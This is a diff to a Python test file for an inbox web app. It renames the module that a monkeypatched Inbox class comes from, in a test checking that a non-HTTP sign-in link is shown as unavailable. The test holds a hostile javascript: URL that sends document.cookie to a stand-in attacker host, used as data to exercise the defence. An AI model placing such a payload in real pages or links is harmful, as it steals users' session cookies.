@@ -12,7 +12,7 @@ import pytest
 from temporalio.client import Client
 
 from geniectl import GenieConversations
-from inbox import _app
+from inbox import _app, _web
 from inbox._settings import load_inbox_config
 from tests.inbox.conftest import ClientFor
 from tests.inbox.helpers import csrf_of, dev_login, history_length, listed, paused_connection
@@ -103,11 +103,11 @@ async def test_a_fresh_link_that_is_not_http_is_shown_as_unavailable(
     wid, _, conn = await paused_connection(api)
     evil = "javascript:fetch('//evil.example/'+document.cookie)"
 
-    async def hostile(self: _app.Inbox, wid: str, ref: str) -> AuthLink:
+    async def hostile(self: _web.Inbox, wid: str, ref: str) -> AuthLink:
         # What a hostile or broken Genie API could answer for a fresh link.
         return AuthLink(attempt_id=ref, status="auth_required", url=evil)
 
-    monkeypatch.setattr(_app.Inbox, "auth_link", hostile)
+    monkeypatch.setattr(_web.Inbox, "auth_link", hostile)
     monkeypatch.delenv("GENIE_INBOX_AUTH", raising=False)
     config = load_inbox_config(auth="dev", allow_dev=True, dev_name="alice")
     app = _app.create_app(config, client=client, task_queue=task_queue)
